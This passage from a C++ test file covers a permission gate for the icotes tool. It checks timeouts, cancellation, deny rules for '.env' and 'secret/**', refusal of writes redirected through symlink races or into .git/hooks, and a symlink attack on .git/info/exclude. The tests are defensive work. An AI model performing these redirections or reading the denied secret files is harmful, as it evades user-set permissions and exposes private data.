  EXPECT_EQ(asked, (std::vector<std::string>{"a.txt", "b/a.txt"}));
  EXPECT_EQ(results, std::vector<bool>{false});
  // Both allowed once: the call runs, and nothing is remembered.
  answers = {Choice::AllowOnce};
  asked.clear();
  gate->check(client, "files/move", {need(K::WriteFile, "a.txt"), need(K::WriteFile, "b/a.txt")}, token,
              [&](Status s) { results.push_back(s.ok()); });
  EXPECT_EQ(asked.size(), 2u);
  EXPECT_EQ(results, (std::vector<bool>{false, true}));
}

TEST_F(GateTest, UnansweredQuestionsAreDeniedAndCancelledOnesWithdrawn) {
  ::setenv("ICOTES_PERMISSION_TIMEOUT_MS", "200", 1);
  auto gate = open();
  ::unsetenv("ICOTES_PERMISSION_TIMEOUT_MS");
  ASSERT_TRUE(gate);
  auto client = std::make_shared<ClientState>();
  client->name = "silent";
  std::atomic<int> withdrawn{0};
  client->ask = [&](const Question&, std::function<void(std::optional<Choice>)>) -> std::function<void()> {
    return [&] { ++withdrawn; };
  };
  std::promise<Status> timed_out, cancelled;
  CancellationToken t1, t2;
  gate->check(client, "files/write", {need(K::WriteFile, "x")}, t1, [&](Status s) { timed_out.set_value(s); });
  auto s1 = timed_out.get_future().get();
  ASSERT_FALSE(s1.ok());
  EXPECT_NE(s1.error().message.find("no answer within"), std::string::npos) << s1.error().message;
  gate->check(client, "files/write", {need(K::WriteFile, "y")}, t2, [&](Status s) { cancelled.set_value(s); });
  t2.cancel();
  auto s2 = cancelled.get_future().get();
  ASSERT_FALSE(s2.ok());
  EXPECT_NE(s2.error().message.find("cancelled"), std::string::npos) << s2.error().message;
  EXPECT_EQ(withdrawn.load(), 2);
}

TEST_F(GateTest, WritesAreJudgedWhereTheyReallyLand) {
  auto gate = open();
  ASSERT_TRUE(gate);
  auto client = std::make_shared<ClientState>();
  client->name = "test client";
  client->settings = gate->settings();
  client->settings.deny.push_back(rule("Edit(secret/**)", Answer::Deny));
  auto check = gate->write_check(client, K::WriteFile, {need(K::WriteFile, "d/config.toml")});
  EXPECT_TRUE(check("d/config.toml").ok());
  // A race turned d/ into a link to .icotes/: refused whatever was approved.
  auto st = check(".icotes/config.toml");
  ASSERT_FALSE(st.ok());
  EXPECT_EQ(st.error().code, error_code::kPermissionDenied);
  EXPECT_FALSE(check(".git/hooks/pre-commit").ok());
  EXPECT_FALSE(check("secret/key").ok());
  // Default mode asks about writes: a landing path nobody approved is refused.
  EXPECT_FALSE(check("src/other.c").ok());
  client->settings.mode = Mode::AcceptEdits;
  EXPECT_TRUE(check("src/other.c").ok());
  EXPECT_FALSE(check("secret/key").ok());
  // A git checkout approved on the whole workspace covers every path but the protected ones.
  auto git = gate->write_check(client, K::GitWrite, {need(K::GitWrite, "")});
  EXPECT_TRUE(git("src/a.c").ok());
  EXPECT_FALSE(git(".icotes/config.toml").ok());
  EXPECT_FALSE(git("secret/key").ok());
  client->settings.mode = Mode::ReadOnly;
  EXPECT_FALSE(git("src/a.c").ok());
}

TEST_F(GateTest, ReadFilterIsNullWithoutReadDenies) {
  auto gate = open();
  ASSERT_TRUE(gate);
  auto client = std::make_shared<ClientState>();
  client->settings = gate->settings();
  EXPECT_FALSE(gate->read_filter(client));
  client->settings.deny.push_back(rule("Read(.env)", Answer::Deny));
  auto denied = gate->read_filter(client);
  ASSERT_TRUE(denied);
  EXPECT_TRUE(denied(".env"));
  EXPECT_FALSE(denied("src/a.c"));
  client->settings.deny.clear();
  client->session.put(Grant{K::ReadFile, Scope::Directory, "private", Answer::Deny});
  denied = gate->read_filter(client);
  ASSERT_TRUE(denied);
  EXPECT_TRUE(denied("private/notes.txt"));
  EXPECT_FALSE(denied("public/notes.txt"));
}

TEST_F(GateTest, TheGitExcludeLineNeverGoesThroughASymlink) {
  // .git/info/ is writable for sandboxed commands (git needs it): one could
  // make exclude a link to a file of the user's outside the workspace.
  TempDir outside;
  write_file(outside / "victim", "precious\n");
  std::filesystem::create_directories(dir_ / ".git/info");
  std::filesystem::create_symlink(outside / "victim", dir_ / ".git/info/exclude");
  auto gate = open();
  ASSERT_TRUE(gate);
  ASSERT_TRUE(gate->grant(Grant{K::EditFile, Scope::Specific, "a.c", Answer::Allow}, false, "test").ok());
  EXPECT_EQ(test::read_file(outside / "victim"), "precious\n");
  // A regular file gets the line (when the grants database is first made).
  std::filesystem::remove(dir_ / ".git/info/exclude");
  std::filesystem::remove_all(dir_ / ".icotes");
  write_file(dir_ / ".git/info/exclude", "# git ls-files --others --exclude-from=.git/info/exclude\n*.o");
  auto again = open();
  ASSERT_TRUE(again);
  ASSERT_TRUE(again->grant(Grant{K::EditFile, Scope::Specific, "b.c", Answer::Allow}, false, "test").ok());
  EXPECT_EQ(test::read_file(dir_ / ".git/info/exclude"),
            "# git ls-files --others --exclude-from=.git/info/exclude\n*.o\n/.icotes/\n");
}

}  // namespace
}  // namespace icotes::permissions
